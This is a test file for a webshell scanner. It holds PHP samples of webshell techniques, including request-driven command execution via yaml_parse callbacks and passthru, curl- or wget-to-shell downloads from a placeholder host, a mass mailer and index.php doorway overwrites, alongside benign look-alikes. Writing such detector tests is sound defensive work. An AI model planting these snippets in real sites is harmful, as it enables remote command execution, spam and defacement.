import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 36: the techniques of the real webshells the held-out sets H14 and H15 missed at their first scan
// (bench/redteam/README-corpus-s36.md), and the respellings red team S35B left open, written again by us as
// harmless pages, each with look-alikes an application may hold. Nothing here is copied from a sample.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);

const MALICIOUS: [string, string, string][] = [
  ['yaml_parse of a document the request gives, trimmed, with a tag callback of system (S35B)', '/var/www/html/a.php', `<?php\n$doc = $_POST['d'];\nyaml_parse(trim($doc), 0, $n, array('!run' => 'system'));\n`],
  ['yaml_parse with its tag callbacks kept in a variable first', '/var/www/html/b.php', `<?php\n$doc = "--- !run " . $_GET['c'];\n$cb = array('!run' => 'passthru');\nyaml_parse(trim($doc), 0, $n, $cb);\n`],
  ['a register_globals command form running the field through a ternary on its own isset (S35B)', '/var/www/html/c.php', `<form><input name="command"></form>\n<?php\nif (isset($command)) { passthru(isset($command) ? $command : 'id'); }\n`],
  ['a mass mailer sending the request\'s message, joined with a date of its own, to each address of a list the request gives', '/var/www/html/d.php', `<?php\n$to = $_POST['emails'];\n$message = stripslashes($_POST['html']);\n$list = explode("\\n", $to);\n$i = 0;\nwhile ($list[$i]) {\n  $stamp = date('d/m/Y h:i:s');\n  $rcpt = $list[$i];\n  if (mail($rcpt, $_POST['subject'], $message . $stamp, "From: " . $_POST['from'])) echo 'sent ', $i;\n  $i++;\n}\n`],
  ['a command that downloads a script and pipes it to perl', '/var/www/html/e.php', `<?php\necho md5('x');\nsystem("wget -O - example.invalid/s |perl");\n`],
  ['a command that downloads a script to /tmp and runs it with perl', '/var/www/html/f.php', `<html><body>status</body></html>\n<?php\nsystem("wget -O /tmp/b example.invalid/b; perl /tmp/b");\n?>\n`],
  ['curl piped to sh in backticks', '/var/www/html/g.php', "<?php\n$o = `curl -s http://example.invalid/i.sh | sh`;\n"],
  ['index.php written with what a server named in the file sends for this host, through a writer of the file\'s own', '/var/www/html/h.php', `<?php\n$remote = "http://doorway.example.invalid";\n$host = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$page = fetch($remote . '/tpl.asp?type=index.php&host=' . urlencode($host));\nsave('index.php', $page);\nfunction fetch($u) { return file_get_contents($u); }\nfunction save($p, $d) { $f = fopen($p, 'wb'); fwrite($f, $d); fclose($f); chmod($p, 0777); }\n`],
  ['index.php opened for writing and given what a server named in the file sends for this host', '/var/www/html/i.php', `<?php\n$srv = "http://doorway.example.invalid/";\n$c = get($srv . 'index.asp?host=' . $_SERVER['HTTP_HOST']);\n$f = fopen("index.php", "wb");\nfwrite($f, $c);\nfclose($f);\nfunction get($u) { $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); return curl_exec($ch); }\n`],
];

const LOOKALIKES: [string, string, string][] = [
  ['yaml_parse with a date tag callback of the application\'s own', '/var/www/html/cfg.php', `<?php\nfunction to_date($v) { return new DateTime($v); }\n$cb = array('!date' => 'to_date');\n$cfg = yaml_parse(trim(file_get_contents(__DIR__ . '/app.yml')), 0, $n, $cb);\n`],
  ['a register_globals status page running only the commands its list has, asked by isset of the list\'s element', '/var/www/html/status.php', `<?php\n$allowed = array('uptime' => 1, 'df -h' => 1);\nif (isset($cmd) && isset($allowed[$cmd])) { echo '<pre>'; system($cmd); echo '</pre>'; }\n?>\n<form method="post"><select name="cmd"><option>uptime</option></select></form>\n`],
  ['a contact form mailing the site\'s owner the visitor\'s message with a footer of its own', '/var/www/html/contact.php', `<?php\n$footer = "\\n-- sent from the contact form";\n$msg = $_POST['message'];\nmail('owner@example.com', 'Contact: ' . $_POST['subject'], $msg . $footer, 'From: web@example.com');\n`],
  ['a backup page downloading an archive to /tmp without running it', '/var/www/html/fetchbak.php', `<?php\nsystem("wget -q -O /tmp/site.tgz https://backup.example.com/site.tgz");\necho filesize('/tmp/site.tgz');\n`],
  ['an installer piping Composer\'s installer to php as its instructions say', '/var/www/html/setup.php', `<?php\nsystem("curl -sS https://getcomposer.org/installer | php");\n`],
  ['a static page generator writing index.html from a template fetched from its own API, with the host name', '/var/www/html/gen.php', `<?php\n$api = "https://api.example.com/";\n$tpl = file_get_contents($api . 'page?host=' . urlencode($_SERVER['HTTP_HOST']));\nfile_put_contents('index.html', $tpl);\n`],
];

describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () => {
  for (const [name, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
    });
  }
  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 9));

  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 6));
});
